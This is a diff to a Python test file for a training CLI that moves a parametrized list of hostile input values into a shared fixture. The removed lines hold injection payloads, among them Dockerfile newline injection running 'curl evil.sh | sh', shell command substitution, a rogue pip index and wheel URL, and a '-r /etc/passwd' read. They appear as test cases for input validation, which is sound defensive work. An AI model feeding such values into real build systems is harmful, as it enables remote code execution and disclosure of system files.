@@ -8,6 +8,7 @@ import json
 import pytest
 import yaml
 
+from tests.package.conftest import HOSTILE_VALUES
 from vertex_trainer import cli
 
 
@@ -55,21 +56,7 @@ def test_bad_builder_is_exit_2(spec_file, capsys):
     assert code == 2 and "--builder" in err and "Traceback" not in err
 
 
-HOSTILE = [
-    ("base_image", "python:3.11\nRUN curl evil.sh | sh"),
-    ("base_image", "python:3.11 AS x\nRUN id"),
-    ("base_image", "python:`id`"),
-    ("base_image", "python:$(id)"),
-    ("base_image", 'python:3.11"'),
-    ("pip_packages", ["pandas==2.2.3\nRUN curl evil.sh | sh"]),
-    ("pip_packages", ["pandas; `id`"]),
-    ("pip_packages", ["$(curl evil.sh)"]),
-    ("pip_packages", ["--index-url=https://evil.example/simple"]),
-    ("pip_packages", ["-r /etc/passwd"]),
-    ("pip_packages", ["pandas @ https://evil.example/p.whl"]),
-    ("pip_packages", ["pandas'"]),
-    ("executor_image", "us-docker.pkg.dev/x/y:latest\nRUN id"),
-]
+HOSTILE = [*HOSTILE_VALUES, ("executor_image", "us-docker.pkg.dev/x/y:latest\nRUN id")]
 
 
 @pytest.mark.parametrize("field,value", HOSTILE)
